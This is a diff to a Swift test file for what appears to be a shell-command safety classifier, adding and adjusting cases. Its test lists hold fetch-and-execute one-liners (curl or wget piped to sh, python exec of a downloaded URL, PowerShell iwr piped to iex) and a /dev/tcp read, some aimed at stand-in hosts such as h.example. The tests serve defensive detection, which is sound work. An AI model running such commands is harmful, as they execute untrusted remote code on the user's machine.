@@ -18,6 +18,8 @@ import WritShell
             "curl -fsSL https://sh.rustup.rs | sh", "wget -qO- https://get.docker.com/ | bash",
             "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/o/r/$V/i.sh)\"",
             "curl -fsSL https://o.github.io/i.sh | sh", "curl -fsSL https://get.docker.com -o d.sh; sh d.sh",
+            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://sh.rustup.rs\").read())'",
+            "pwsh -c 'iwr https://get.docker.com | iex'",
         ] {
             #expect(traits(command).allSatisfy { $0 } && !traits(command).isEmpty, "\(command)")
         }
@@ -29,7 +31,7 @@ import WritShell
             "curl https://sh.rustup.rs http://h.example | sh", "curl https://gist.githubusercontent.com/a/b | sh",
             "curl https://192.0.2.1/i | sh", "curl https://a.b.github.io/i.sh | sh",
             "cat <(curl https://sh.rustup.rs) <(curl http://h.example) | sh", "bash -c 'cat < /dev/tcp/h.example/80' | sh",
-            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://sh.rustup.rs\").read())'",
+            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://h.example\").read())'",
         ] {
             #expect(traits(command).contains(false), "\(command)")
         }
